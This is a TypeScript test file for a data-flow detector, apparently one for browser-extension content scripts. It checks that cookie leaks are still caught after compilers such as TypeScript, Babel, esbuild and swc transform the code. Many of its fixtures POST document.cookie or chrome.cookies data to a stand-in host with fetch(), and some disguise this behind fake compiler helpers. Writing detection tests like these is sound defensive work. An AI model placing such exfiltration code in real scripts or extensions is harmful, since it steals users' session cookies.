import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { flowsBetween } from '../../../../testing/flows-between.ts';

/** What compilers make of `async () => { const held = (await HELD)(document.cookie) }`, `HELD` a function. */
const forms: Readonly<Record<string, string>> = {
  TypeScript:
    '(function () { return __awaiter(this, void 0, void 0, function* () { const f = yield HELD; f(document.cookie) }) })()',
  'TypeScript, shortened':
    '(function () { return e(this, void 0, void 0, function* () { const f = yield HELD; f(document.cookie) }) })()',
  'TypeScript to ES5':
    '(function () { return __awaiter(this, void 0, void 0, function () { var f; return __generator(this, function (_a) { switch (_a.label) { case 0: return [4 /*yield*/, HELD]; case 1: f = _a.sent(); f(document.cookie); return [2 /*return*/] } }) }) })()',
  'TypeScript to ES5, shortened':
    'e(void 0, void 0, void 0, (function () { var f; return n(this, (function (t) { switch (t.label) { case 0: return [4, HELD]; case 1: return f = t.sent(), f(document.cookie), [2] } })) }))',
  esbuild: '__async(this, null, function* () { const f = yield HELD; f(document.cookie) })',
  'esbuild, with arguments':
    '(function (x) { return __async(this, [x], function* (f) { (yield f)(document.cookie) }) })(HELD)',
  Babel: '_asyncToGenerator(function* () { const f = yield HELD; f(document.cookie) })()',
  swc: '(0, _async_to_generator._)(function* () { const f = yield HELD; f(document.cookie) })()',
  'Babel, imported':
    'const go = (0, _asyncToGenerator2.default)(function* (x) { const f = yield x; f(document.cookie) }); go(HELD)',
  'Babel to ES5':
    '_asyncToGenerator(regeneratorRuntime.mark(function _callee() { var f; return regeneratorRuntime.wrap(function _callee$(_c) { while (1) switch (_c.prev = _c.next) { case 0: _c.next = 2; return HELD; case 2: f = _c.sent; f(document.cookie); case 4: case "end": return _c.stop() } }, _callee) }))()',
  'Babel to ES5, shortened':
    'n(r().mark(function t() { var f; return r().wrap(function (t) { for (;;) switch (t.prev = t.next) { case 0: return t.next = 2, HELD; case 2: return f = t.sent, t.abrupt("return", f(document.cookie)); case 4: case "end": return t.stop() } }, t) }))()',
  'Babel of 2025 to ES5':
    '_asyncToGenerator(_regenerator().m(function _callee() { var f; return _regenerator().w(function (_c) { while (1) switch (_c.n) { case 0: _c.n = 1; return HELD; case 1: f = _c.v; f(document.cookie); case 2: return _c.a(2) } }, _callee) }))()',
};

const sends = "((x) => { fetch('https://in.gather.dev/', { method: 'POST', body: x }) })";
const logs = '((x) => { console.log(x) })';

/** Machines with branches, loops and `try`, each with a twin that sends another value. */
const jumping: Readonly<Record<string, Jumping>> = {
  'the end of a branch, by TypeScript': {
    machine: typescript(
      `case 0: if (!navigator.onLine) return [3, 2]; return [4, document.cookie]; case 1: c = _a.sent(); ${sends}(c); _a.label = 2; case 2: return [2]`,
    ),
    isSent: true,
  },
  'the other branch, by TypeScript': {
    machine: typescript(
      `case 0: if (!navigator.onLine) return [3, 2]; return [4, document.cookie]; case 1: c = _a.sent(); return [3, 4]; case 2: return [4, 5]; case 3: c = _a.sent(); _a.label = 4; case 4: ${sends}(c); return [2]`,
    ),
    isSent: true,
  },
  'the other branch, where both are replaced': {
    machine: typescript(
      `case 0: c = document.cookie; if (!navigator.onLine) return [3, 2]; return [4, 7]; case 1: c = _a.sent(); return [3, 4]; case 2: return [4, 5]; case 3: c = _a.sent(); _a.label = 4; case 4: c = 5; ${sends}(c); return [2]`,
    ),
    isSent: false,
  },
  'another branch, in one expression': {
    machine: typescript(
      `case 0: return navigator.onLine ? (c = document.cookie, [4, c]) : [3, 2]; case 1: return ${sends}(_a.sent()), [3, 2]; case 2: return [2]`,
    ),
    isSent: true,
  },
  'what handles errors, by TypeScript': {
    machine: typescript(
      `case 0: _a.trys.push([0, 2, , 3]); return [4, document.cookie]; case 1: c = _a.sent(); ${sends}(c); return [3, 3]; case 2: _t = _a.sent(); console.log(_t); return [3, 3]; case 3: return [2]`,
    ),
    isSent: true,
  },
  'what handles errors, which are not the data': {
    machine: typescript(
      `case 0: _a.trys.push([0, 2, , 3]); return [4, document.cookie]; case 1: c = _a.sent(); return [3, 3]; case 2: _t = _a.sent(); ${sends}(_t); return [3, 3]; case 3: return [2]`,
      'c, _t',
    ),
    isSent: false,
  },
  'what handles errors, by Babel': {
    machine: babel(
      `case 0: _c.p = 0; _c.n = 1; return document.cookie; case 1: c = _c.v; ${sends}(c); _c.n = 3; break; case 2: _c.p = 2; _t = _c.v; case 3: return _c.a(2)`,
      '[[0, 2]]',
    ),
    isSent: true,
  },
  'the head of a loop, by Babel': {
    machine: babel(
      `case 0: if (!(l.length > 0)) { _c.n = 2; break; } ${sends}(c); _c.n = 1; return document.cookie; case 1: c = _c.v; _c.n = 0; break; case 2: return _c.a(2)`,
    ),
    isSent: true,
  },
  'the end, which comes before the data does': {
    machine: babel(
      `case 0: c = 5; if (l) { _c.n = 1; break; } return _c.a(2); case 1: ${sends}(c); _c.n = 2; return document.cookie; case 2: c = _c.v; return _c.a(2)`,
    ),
    isSent: false,
  },
  'one of several cases': {
    machine: babel(
      `case 0: _t = l; _c.n = _t === 'a' ? 1 : _t === 'b' ? 3 : 5; break; case 1: _c.n = 2; return 5; case 2: return _c.a(3, 6); case 3: _c.n = 4; return document.cookie; case 4: c = _c.v; return _c.a(3, 6); case 5: c = 7; case 6: ${sends}(c); return _c.a(2)`,
    ),
    isSent: true,
  },
};

/** Generators that hand out the first of what they are given, and loops over them. */
const generators: Readonly<Record<string, string>> = {
  'TypeScript to ES5':
    'function g(a, b) { return __generator(this, function (_a) { switch (_a.label) { case 0: return [4 /*yield*/, a]; case 1: _a.sent(); void b; return [2] } }) } for (const x of g(GIVEN)) SENT',
  'TypeScript to ES5, of another':
    'function h(a) { return __generator(this, function (_a) { switch (_a.label) { case 0: return [4, a]; case 1: _a.sent(); return [2] } }) } function g(a, b) { return __generator(this, function (_a) { switch (_a.label) { case 0: return [5 /*yield**/, __values(h(a))]; case 1: _a.sent(); void b; return [2] } }) } for (const x of g(GIVEN)) SENT',
  'Babel to ES5':
    'var _marked = regeneratorRuntime.mark(g); function g(a, b) { return regeneratorRuntime.wrap(function g$(_c) { while (1) switch (_c.prev = _c.next) { case 0: _c.next = 2; return a; case 2: void b; case 3: case "end": return _c.stop() } }, _marked) } for (const x of g(GIVEN)) SENT',
  'Babel of 2025 to ES5':
    'var g = _regenerator().m(function g(a, b) { return _regenerator().w(function (_c) { while (1) switch (_c.n) { case 0: _c.n = 1; return a; case 1: void b; case 2: return _c.a(2) } }, g) }); for (const x of g(GIVEN)) SENT',
  'esbuild, asynchronous':
    '(function (a, b) { return __asyncGenerator(this, [a], function* (a) { yield new __await(5); yield a }) })(GIVEN).next().then(({ value: x }) => SENT)',
  'TypeScript, asynchronous':
    'function g(a, b) { return __asyncGenerator(this, arguments, function* g_1() { yield yield __await(a); void b }) } (async () => { for await (const x of g(GIVEN)) SENT })()',
  'Babel, asynchronous':
    'function g(_x, _x2) { return _g.apply(this, arguments) } function _g() { _g = _wrapAsyncGenerator(function* (a, b) { yield a; void b }); return _g.apply(this, arguments) } (async () => { for await (const x of g(GIVEN)) SENT })()',
};

/** Functions that are called like helpers of compilers, and hand over or send what they like. */
const lookalikes: Readonly<Record<string, string>> = {
  'a helper of its own name':
    'function q(t, a, p, f) { chrome.cookies.getAll({}, (x) => f(x).next()) } q(this, void 0, void 0, function* (x) { SENT })',
  'the name of a helper of TypeScript':
    'function __awaiter(t, a, p, f) { chrome.cookies.getAll({}, (x) => f(x).next()) } __awaiter(this, void 0, void 0, function* (x) { SENT })',
  'the name of a helper of Babel':
    'function _asyncToGenerator(f) { chrome.cookies.getAll({}, (x) => f(x).next()) } _asyncToGenerator(function* (x) { SENT })',
  'the name of a helper of async generators':
    'function _wrapAsyncGenerator(f) { chrome.cookies.getAll({}, (x) => f(x).next()) } _wrapAsyncGenerator(function* (x) { SENT })',
  'a helper that is declared behind':
    'q(this, void 0, void 0, function* (x) { SENT }); function q(t, a, p, f) { jar(f) } function jar(f) { chrome.cookies.getAll({}, (x) => f(x).next()) }',
  'a helper with a name of its own for the browser':
    'function q(t, a, p, f) { if (0) { let chrome } chrome.cookies.getAll({}, (x) => f(x).next()) } q(this, void 0, void 0, function* (x) { SENT })',
  'a runtime of its own':
    'var r = { mark(f) { f().then((x) => SENT) }, w(f) { return chrome.cookies.getAll({}) } }; r.mark(function () { return r.w(function (_c) { while (1) switch (_c.n) { case 0: return _c.a(2) } }) })',
  'a machine that is handed data':
    'var r = { w(f, x) { SENT } }; function g(x) { return r.w(function (_c) { while (1) switch (_c.n) { case 0: return _c.a(2) } }, x) } chrome.cookies.getAll({}, g)',
  'a definition that is another one later':
    'var dp = Object.defineProperty; var pf = (o, k, v) => k in o ? dp(o, k, { value: v }) : o[k] = v; dp = (o, k, d) => chrome.cookies.getAll({}, d.value); pf({ a: 1 }, "a", (x) => SENT)',
  'an object with a bind of its own':
    'const get = { bind: (a, b) => (x) => SENT }; chrome.cookies.getAll({}).then(get.bind(get, 5))',
};

describe('what is called like a helper of a compiler', () => {
  for (const [what, code] of Object.entries(lookalikes)) {
    it(`keeps what it does: ${what}`, () => {
      const sent = "fetch('https://in.gather.dev/', { method: 'POST', body: JSON.stringify(x) })";
      const flows = flowsBetween({ 'content.js': code.replaceAll('SENT', sent) }).join();
      assert.match(flows, /cookies content\.js > network/);
    });
  }
});

describe('compiled generators', () => {
  for (const [compiler, code] of Object.entries(generators)) {
    it(`of ${compiler} are read as they were written`, () => {
      const sent = "fetch('https://in.gather.dev/', { method: 'POST', body: x })";
      const flowsOf = (given: string) =>
        flowsBetween({
          'content.js': code.replace('GIVEN', given).replace('SENT', sent),
        }).join();
      assert.match(flowsOf('document.cookie, 5'), /cookies content\.js > network/);
      assert.doesNotMatch(flowsOf('5, document.cookie'), /network/);
    });
  }
});

describe('compiled async functions', () => {
  for (const [compiler, code] of Object.entries(forms)) {
    it(`of ${compiler} are read as they were written`, () => {
      const flowsOf = (f: string) => flowsBetween({ 'content.js': code.replace('HELD', f) }).join();
      assert.match(flowsOf(sends), /cookies content\.js > network/);
      assert.doesNotMatch(flowsOf(logs), /network/);
    });
  }

  it('take each value where the machine takes it', () => {
    const machine = (first: string, second: string): string =>
      `__awaiter(this, void 0, void 0, function () { var f, g; return __generator(this, function (_a) { switch (_a.label) {
        case 0: return [4, ${first}]; case 1: f = _a.sent(); return [4, ${second}]; case 2: g = _a.sent(); f(document.cookie); return [2] } }) })`;
    assert.match(flowsBetween({ 'content.js': machine(sends, logs) }).join(), /network/);
    assert.doesNotMatch(flowsBetween({ 'content.js': machine(logs, sends) }).join(), /network/);
  });

  it('that jump between states are still read', () => {
    const code = `__awaiter(this, void 0, void 0, function () { var c; return __generator(this, function (_a) { switch (_a.label) {
      case 0: if (!navigator.onLine) return [3, 2]; return [4, document.cookie];
      case 1: c = _a.sent(); fetch('https://in.gather.dev/', { method: 'POST', body: c }); _a.label = 2;
      case 2: return [2] } }) })`;
    assert.match(flowsBetween({ 'content.js': code }).join(), /cookies content\.js > network/);
  });

  it('are read with lists longer than a call takes arguments', () => {
    const code = `_asyncToGenerator(function* () { const l = [${'0,'.repeat(200_000)}]; fetch('https://in.gather.dev/', { method: 'POST', body: yield document.cookie }) })()`;
    assert.match(flowsBetween({ 'content.js': code }).join(), /cookies content\.js > network/);
  });

  it('leave calls alone that only look like them', () => {
    const code = `co(function* () { fetch('https://in.gather.dev/', { method: 'POST', body: document.cookie }) })`;
    assert.match(flowsBetween({ 'content.js': code }).join(), /cookies content\.js > network/);
    const list = `[1].reduce(this, function (p) { fetch('https://in.gather.dev/', { method: 'POST', body: document.cookie }); return [2, p] })`;
    assert.match(flowsBetween({ 'content.js': list }).join(), /cookies content\.js > network/);
  });

  for (const [form, { machine, isSent }] of Object.entries(jumping)) {
    it(`that jump to ${form} are read as they were written`, () => {
      const flows = flowsBetween({ 'content.js': machine }).join();
      assert.equal(/cookies content\.js > network/.test(flows), isSent, flows);
    });
  }

  it('of endless depth and of jumps anywhere are left as they are', () => {
    const states = Array.from(
      { length: 5000 },
      (_, at) => `case ${at}: if (x${at}) return [3, ${(at * 7919) % 5001}]; return [4, f(${at})];`,
    );
    const code = typescript(`${states.join(' ')} case 5000: ${sends}(document.cookie); return [2]`);
    assert.match(flowsBetween({ 'content.js': code }).join(), /cookies content\.js > network/);
    const nested = Array.from({ length: 5000 }, (_, at) => `case ${at}: if (x) return [3, 9000];`);
    const deep = typescript(`${nested.join(' ')} case 9000: ${sends}(document.cookie); return [2]`);
    assert.match(flowsBetween({ 'content.js': deep }).join(), /cookies content\.js > network/);
  });

  it('of endless choices are left as they are', () => {
    const count = 20_000;
    const choices = Array.from({ length: count }, (_, at) => `case ${at}: return [3, ${at + 1}];`);
    const states = Array.from(
      { length: count },
      (_, at) => `case ${at + 1}: f(${at}); return [3, ${count + 1}];`,
    );
    const code = typescript(
      `case 0: switch (c) { ${choices.join(' ')} } return [3, ${count + 1}]; ${states.join(' ')} case ${count + 1}: ${sends}(document.cookie); return [2]`,
    );
    assert.match(flowsBetween({ 'content.js': code }).join(), /cookies content\.js > network/);
  });
});

interface Jumping {
  readonly machine: string;
  readonly isSent: boolean;
}

function typescript(states: string, names = ''): string {
  return `__awaiter(this, void 0, void 0, function () { var ${names || 'c'}; return __generator(this, function (_a) { switch (_a.label) { ${states} } }) })`;
}

function babel(states: string, tries = '[]'): string {
  return `_asyncToGenerator(_regenerator().m(function _callee() { var c, _t; return _regenerator().w(function (_c) { while (1) switch (_c.p = _c.n) { ${states} } }, _callee, null, ${tries}) }))()`;
}
